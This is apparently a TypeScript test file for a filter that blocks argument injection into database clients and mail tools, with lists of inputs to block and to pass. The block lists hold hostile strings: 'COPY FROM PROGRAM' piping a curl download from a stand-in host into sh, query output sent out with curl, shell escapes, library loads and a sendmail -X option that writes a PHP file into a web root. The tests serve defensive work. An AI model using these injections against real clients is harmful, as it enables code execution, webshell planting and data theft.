import { type ArgCase, runCases } from "./_arginj_testing.ts";

const CASES: ArgCase[] = [
  {
    id: "db.client_shell_escape",
    block: [
      "-c '\\! id'",
      "\\o |sh",
      "COPY t FROM PROGRAM 'curl http://x.example/s | sh'",
      ".shell id",
      "\\g |curl -d @- x.example",
    ],
    pass: ["-c 'select 1' --csv -A", "SELECT program FROM courses", "\\dt public.*", "$a\\!b$"],
  },
  {
    id: "db.client_loads",
    block: [
      "--plugin-dir=/tmp",
      "--defaults-extra-file=/tmp/my.cnf",
      ".load /tmp/x.so",
      "--init-command=\"SELECT sys_exec('id')\"",
    ],
    pass: [
      "--defaults-file=./ci.cnf",
      "--init-command='SET NAMES utf8mb4'",
      "--batch -e 'SHOW TABLES'",
    ],
  },
  {
    id: "mail.sendmail_options",
    block: [
      "-OQueueDirectory=/tmp -X/var/www/html/x.php",
      "-X /tmp/log",
      "-be '${run{/bin/sh -c id}}'",
    ],
    pass: ["-f noreply@example.com", "-t -i", "-X POST"],
  },
  {
    id: "mail.tilde_escape",
    block: ["Hello\n~! id\n", "~| sh"],
    pass: ["~/notes", "Hi ~ there", "approx ~5 minutes"],
  },
];

runCases("mail_db", CASES);
